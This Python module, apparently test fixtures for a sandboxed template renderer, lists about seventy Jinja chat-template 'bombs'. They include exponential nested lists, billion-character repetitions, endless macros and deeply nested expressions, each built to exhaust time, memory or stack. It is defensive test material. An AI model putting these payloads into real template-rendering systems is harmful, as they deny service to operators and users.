# ruff: noqa: E501 — a bomb is one line
"""Holds chat templates that would run for ever, fill the memory or end the process that renders them."""

from __future__ import annotations

_PAIR = (
    "{% set n = namespace(a=[0], b=[0]) %}{% for i in range(60) %}"
    "{% set n.a = [n.a, n.a] %}{% set n.b = [n.b, n.b] %}{% endfor %}"
)
"""Two lists of sixty levels, each holding the one below twice: equal after 2⁶⁰ comparisons."""
_DEEP = "{% set n = namespace(a=[0]) %}{% for i in range(90000) %}{% set n.a = [n.a] %}{% endfor %}"
"""A list of ninety thousand levels."""
_SHARED = (
    "{% set n = namespace(a=['xxxxxxxx']) %}{% for i in range(40) %}{% set n.a = [n.a, n.a] %}{% endfor %}"
)
"""A small list that is enormous when written out."""
_LONG = "{% set x = 'a' * 999999 %}"
_DOUBLE = "{% set n = namespace(s='aa') %}{% for i in range(99) %}{% set n.s = "

BOMBS = {
    # time: one call of C
    "equal": _PAIR + "{{ n.a == n.b }}",
    "unequal": _PAIR + "{{ n.a != n.b }}",
    "less": _PAIR + "{{ n.a < n.b }}",
    "in": _PAIR + "{{ n.a in [n.b] }}",
    "index": _PAIR + "{{ [n.a].index(n.b) }}",
    "count": _PAIR + "{{ [n.a].count(n.b) }}",
    "sort": _PAIR + "{{ [n.a, n.b]|sort }}",
    "groupby": _PAIR + "{{ [{'k': n.a}, {'k': n.b}]|groupby('k') }}",
    "dictsort": _PAIR + "{{ {'x': n.a, 'y': n.b}|dictsort(by='value') }}",
    "max": _PAIR + "{{ [n.a, n.b]|max }}",
    "select": _PAIR + "{{ [n.a]|select('equalto', n.b)|list }}",
    "power": "{{ 9 ** (9 ** 9) % 7 }}",
    "power of a value": "{% set x = 9 ** 9 %}{{ (9 ** x) % 7 }}",
    "product": "{% set n = namespace(s=9) %}{% for i in range(99) %}{% set n.s = n.s * n.s %}{% endfor %}",
    "sum of lists": "{{ (range(99999)|map('string')|map('list'))|sum(start=[])|length }}",
    "find": "{{ ('a' * 9999999).count('a' * 4999999 ~ 'b' ~ 'a' * 49999) }}" * 99999,
    # time: loops
    "nested loops": "{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}",
    "recursive loop": "{% for a in range(99) recursive %}{{ loop(range(99)) if loop.depth < 9 }}{% endfor %}",
    "macro": "{% macro f(n) %}{% if n %}{{ f(n - 1) }}{{ f(n - 1) }}{% endif %}{% endmacro %}{{ f(99) }}",
    "lipsum": "{{ lipsum(n=99999) }}",
    "cycler": "{% set c = cycler(1, 2) %}{% for a in range(99999) %}{% for b in range(99999) %}{% set x = c.next() %}{% endfor %}{% endfor %}",
    # memory
    "repetition": "{{ 'a' * 9999999999 }}",
    "repetition of a value": "{% set x = 9999999999 %}{{ ('a' * x)|length }}",
    "list repetition": "{{ ([0] * 9999999999)|length }}",
    "doubling by +": _DOUBLE + "n.s + n.s %}{% endfor %}",
    "doubling by ~": _DOUBLE + "n.s ~ n.s %}{% endfor %}",
    "doubling by join": _DOUBLE + "[n.s, n.s]|join %}{% endfor %}",
    "doubling by a set block": "{% set n = namespace(s='aa') %}{% for i in range(99) %}{% set n.s %}{{ n.s }}{{ n.s }}{% endset %}{% endfor %}",
    "join": _LONG + "{{ x.join(range(99999)|map('string')) }}",
    "replace": _LONG + "{{ x.replace('a', x) }}",
    "replace filter": _LONG + "{{ x|replace('a', x) }}",
    "translate": _LONG + "{{ x.translate({97: x}) }}",
    "expandtabs": "{{ ('\t' * 99999).expandtabs(999999) }}",
    "ljust": "{{ 'a'.ljust(9999999999) }}",
    "zfill": "{{ 'a'.zfill(9999999999) }}",
    "center": "{{ 'a'|center(9999999999) }}",
    "indent": "{{ ('a\n' * 99999)|indent(999999) }}",
    "wordwrap": _LONG + "{{ x|wordwrap(1, wrapstring=x) }}",
    "tojson": _SHARED + "{{ n.a|tojson }}",
    "tojson with an indent": "{{ messages|tojson(indent=9999999999) }}",
    "as text": _SHARED + "{{ n.a|string }}",
    "pprint": _SHARED + "{{ n.a|pprint }}",
    "format": "{{ '{:>9999999999}'.format(3) }}",
    "format filter": "{{ '%9999999999d'|format(3) }}",
    "percent": "{{ '%9999999999d' % 3 }}",
    "batch": "{{ range(9)|batch(999999999, 'x')|list }}",
    "slice": "{{ range(9)|slice(999999999)|list }}",
    "encode": _LONG + "{{ (x * 99).encode('utf-32') }}",
    "many values": "{% set n = namespace(s=[]) %}{% for i in range(99999) %}{% set n.s = n.s + [range(99999)|list] %}{% endfor %}",
    # output
    "output": "{% for a in range(99999) %}{% for b in range(999) %}{{ 'aaaaaaaaaa' }}{% endfor %}{% endfor %}",
    "one large output": "{{ 'a' * 99999999 }}",
    # depth
    "endless macro": "{% macro f(x) %}{{ f(x) }}{% endmacro %}{{ f(1) }}",
    "deep text": _DEEP + "{{ n.a }}",
    "deep tojson": _DEEP + "{{ n.a|tojson }}",
    "deep comparison": _DEEP + "{% set b = n.a %}{{ [n.a] == [[b]] }}",
    # compiling
    "parentheses": "{{ " + "(" * 99999 + "1" + ")" * 99999 + " }}",
    "brackets": "{{ " + "[" * 200 + "]" * 200 + " }}",
    "minus signs": "{{ " + "-" * 99999 + "1 }}",
    "sums": "{{ " + "1+" * 99999 + "1 }}",
    "nested blocks": "{% if 1 %}" * 9999 + "{% endif %}" * 9999,
    "nested for": "{% for a in [1] %}" * 40 + "{% endfor %}" * 40,
    "attributes": "{{ messages" + ".a" * 99999 + " }}",
    "many filters": "{{ 1" + "|abs" * 99999 + " }}",
    "many statements": "{{ 1 }}{% set a = 1 %}" * 99999,
    "constant power": "{{ 2 ** (10 ** 9) }}",
    "constant repetition": "{{ 'a' * 10 ** 10 }}",
    "digits": "{{ " + "9" * 999999 + " }}",
}
